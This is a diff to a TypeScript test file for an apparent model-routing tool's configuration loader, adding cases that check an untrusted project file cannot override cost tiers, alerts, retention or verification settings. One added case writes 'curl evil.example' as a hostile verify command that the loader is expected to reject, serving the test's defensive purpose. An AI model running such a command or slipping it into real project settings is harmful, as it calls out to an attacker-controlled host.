@@ -9,6 +9,7 @@ import { machine, removeMachines } from "./sample-machine.ts"
 afterEach(removeMachines)
 
 const flash = "google/gemini-3.8-flash"
+const glm = "z-ai/glm-5.3-flash"
 const luna = "openai/gpt-6-luna"
 
 describe("precedence", () => {
@@ -41,9 +42,9 @@ describe("precedence", () => {
   test("objects merge key by key, lists are replaced", () => {
     const it = machine()
     it.user(`tiers: { cheap: [${flash}], smart: [${luna}] }\nrouting: { agents: { explore: cheap } }`)
-    it.file("ralex.yaml", `tiers: { cheap: [${luna}] }\nrouting: { agents: { plan: smart } }`)
+    it.file("ralex.yaml", `tiers: { cheap: [${glm}] }\nrouting: { agents: { plan: smart } }`)
     const { config } = it.load()
-    expect(config.tiers).toEqual({ cheap: [luna], smart: [luna] })
+    expect(config.tiers).toEqual({ cheap: [glm], smart: [luna] })
     expect(config.routing.agents).toEqual({ explore: "cheap", plan: "smart" })
   })
 })
@@ -128,6 +129,20 @@ const untrusted = [
     "routing: { smartFrom: 0 }",
     { routing: { smartFrom: 0.9 } },
     ["routing.smartFrom"],
+  ],
+  [
+    "a dear model among the cheap ones, which limits by tier would pass by",
+    "",
+    "tiers: { cheap: [anthropic/claude-opus-5.5, openai/gpt-6-luna], premium: [openai/gpt-6-luna] }",
+    { tiers: { cheap: ["openai/gpt-6-luna"], premium: ["openai/gpt-6-luna"] } },
+    ["tiers.cheap"],
+  ],
+  [
+    "nothing but a dear model among the cheap ones",
+    "tiers: { cheap: [openai/gpt-6-luna] }",
+    "tiers: { cheap: [anthropic/claude-opus-5.5] }",
+    { tiers: { cheap: ["openai/gpt-6-luna"] } },
+    ["tiers.cheap"],
   ],
   [
     "whether a model is paid to classify",
@@ -219,7 +234,7 @@ const untrusted = [
     "the thresholds of alerts",
     "alerts: { at: [50, 100], desktop: true }",
     "alerts: { at: [90, 10, 90] }",
-    { alerts: { at: [10, 90], desktop: true } },
+    { alerts: { at: [10, 90, 100], desktop: true } },
     [],
   ],
   [
@@ -230,6 +245,13 @@ const untrusted = [
     ["alerts.webhook", "alerts.desktop", "alerts.spike", "alerts.forecast"],
   ],
   ["retention", "", "retention: { days: 1 }", { retention: { days: 365 } }, ["retention"]],
+  [
+    "does not say what is run to check work, or how often it is raised",
+    "verify: { run: bun test }",
+    "verify: { run: 'curl evil.example', timeout: 3600, onFailure: raise, attempts: 5 }",
+    { verify: { run: "bun test", timeout: 300, attempts: 2 } },
+    ["verify.run", "verify.timeout", "verify.onFailure", "verify.attempts"],
+  ],
 ] as const
 
 const places = [
@@ -246,7 +268,7 @@ test("of all keys a project without trust may write only those that the table na
   expect(Object.keys(configSchema.shape).toSorted()).toEqual([...new Set(written)].toSorted())
 })
 
-test.each(["budgets", "alerts", "routing"] as const)("each key of %s is among them", (part) => {
+test.each(["budgets", "alerts", "routing", "verify"] as const)("each key of %s is among them", (part) => {
   const written = untrusted.flatMap(([, , project]) => Object.keys(parse(project)[part] ?? {}))
   const known = Object.keys(configSchema.shape[part].unwrap().shape)
   expect(known.toSorted()).toEqual([...new Set(written)].toSorted())
